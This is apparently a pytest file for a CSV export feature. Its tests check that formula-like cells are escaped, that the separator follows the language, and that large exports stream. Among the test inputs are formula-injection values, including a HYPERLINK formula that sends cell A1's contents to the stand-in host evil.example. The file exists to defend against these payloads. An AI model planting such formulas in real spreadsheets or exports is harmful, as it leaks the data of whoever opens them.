from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator, Iterable, Iterator, Sequence
from typing import Any

import pytest
from litestar import Litestar, get
from litestar.response import Stream
from litestar.testing import TestClient

from gateway.console.csv_export import BOM, csv_response, safe_cell
from gateway.conversations.models import Language


def downloaded(response: Stream) -> Any:
    @get("/file.csv")
    async def file() -> Stream:
        return response

    with TestClient(Litestar([file])) as client:
        return client.get("/file.csv")


def read(text: str, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=separator))


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        '=HYPERLINK("https://evil.example?"&A1;"x")',
        "＝1+1",
    ],
)
def test_a_cell_that_begins_like_a_formula_is_text(cell: str) -> None:
    (row,) = read(downloaded(csv_response("a.csv", ["é"], [[cell]])).text)[1:]
    assert row == ["'" + cell] or row[0].startswith("'" + cell[0])


@pytest.mark.parametrize("cell", ["mal au dos;=1+1", "mal\n=1+1", "mal\t@x", "mal\r\n-1"])
def test_no_other_separator_makes_a_formula_either(cell: str) -> None:
    (row,) = read(downloaded(csv_response("a.csv", ["é"], [[cell]])).text)[1:]
    assert "'" in row[0]
    assert row[0].replace("'", "") == cell


@pytest.mark.parametrize(
    ("value", "shown"),
    [(-3, -3), (0.5, 0.5), (None, ""), ("C’est-à-dire = non", "C’est-à-dire = non"), ("", "")],
)
def test_numbers_and_plain_words_stay_as_they_are(value: object, shown: object) -> None:
    assert safe_cell(value) == shown


def test_the_header_is_guarded_and_quotes_and_line_breaks_come_back() -> None:
    rows: list[Sequence[object]] = [['dit « aïe », puis "non"\nvoilà', 2]]
    answer = downloaded(csv_response("liste.csv", ["=A", "n"], rows))
    assert answer.headers["content-disposition"] == 'attachment; filename="liste.csv"'
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith(b"\xef\xbb\xbf")
    assert read(answer.text) == [["'=A", "n"], ['dit « aïe », puis "non"\nvoilà', "2"]]


@pytest.mark.parametrize(("language", "separator"), [("fr", ";"), ("en", ","), (None, ",")])
def test_the_separator_is_the_one_of_excel_in_that_language(
    language: Language | None, separator: str
) -> None:
    answer = downloaded(csv_response("a.csv", ["a", "b"], [["1,5", "x;y"]], language))
    assert read(answer.text, separator) == [["a", "b"], ["1,5", "x;y"]]


def many() -> Iterator[Sequence[object]]:
    for number in range(20_000):
        yield [number, "une ligne"]


async def many_later() -> AsyncIterator[Sequence[object]]:
    for row in many():
        yield row


@pytest.mark.parametrize("rows", [many, many_later])
def test_many_rows_are_sent_in_parts(rows: Any) -> None:
    response = csv_response("a.csv", ["n", "texte"], rows())
    lines = read(downloaded(response).text)
    assert len(lines) == 20_001
    assert lines[-1] == ["19999", "une ligne"]


async def test_no_part_waits_for_all_rows() -> None:
    taken: list[int] = []

    def counted() -> Iterable[Sequence[object]]:
        for row in many():
            taken.append(1)
            yield row

    parts = csv_response("a.csv", ["n"], counted()).iterator
    assert isinstance(parts, AsyncIterator)
    await anext(parts)
    assert 0 < len(taken) < 10_000
